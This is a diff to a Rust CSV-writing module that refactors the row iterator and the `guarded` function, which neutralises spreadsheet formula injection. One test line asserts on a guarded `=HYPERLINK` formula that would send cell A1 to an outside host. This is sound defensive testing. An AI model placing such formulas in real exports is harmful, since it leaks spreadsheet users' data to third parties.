@@ -21,12 +21,15 @@ pub struct Parsed {
 }
 
 /// Writes a table.
-pub fn write<'a>(columns: &[&str], rows: impl Iterator<Item = &'a Vec<String>>) -> String {
+pub fn write<Row>(columns: &[&str], rows: impl Iterator<Item = Row>) -> String
+where
+    Row: Iterator<Item = String>,
+{
     let mut writer = WriterBuilder::new().terminator(Terminator::CRLF).from_writer(Vec::new());
     let fits = "every row has the cells of the columns, and memory takes every byte";
     writer.write_record(columns).expect(fits);
     for row in rows {
-        writer.write_record(row.iter().map(|cell| guarded(cell))).expect(fits);
+        writer.write_record(row.map(guarded)).expect(fits);
     }
     let bytes = writer.into_inner().expect(fits);
     String::from_utf8(bytes).expect("text was written")
@@ -59,10 +62,10 @@ pub fn read(text: &str) -> Result<Parsed, String> {
 
 /// A cell that no spreadsheet takes for a formula. Apostrophes that stand before such a cell
 /// already are one more each, so that reading gives back what was written.
-fn guarded(cell: &str) -> String {
+fn guarded(cell: String) -> String {
     match cell.trim_start_matches('\'').starts_with(FORMULA) {
         true => format!("'{cell}"),
-        false => cell.to_owned(),
+        false => cell,
     }
 }
 
@@ -95,9 +98,8 @@ mod tests {
             "",
             "- [x] a",
         ];
-        let rows: Vec<Vec<String>> =
-            cells.iter().map(|cell| vec!["id".to_owned(), (*cell).to_owned()]).collect();
-        let text = write(&["id", "cell"], rows.iter());
+        let rows = cells.iter().map(|cell| ["id", cell].into_iter().map(str::to_owned));
+        let text = write(&["id", "cell"], rows);
         assert!(text.starts_with("id,cell\r\nid,\"'=HYPERLINK(\"\"http://e.org?\"\"&A1)\"\r\n"));
         let mut plain = csv::Reader::from_reader(text.as_bytes());
         for row in plain.records() {
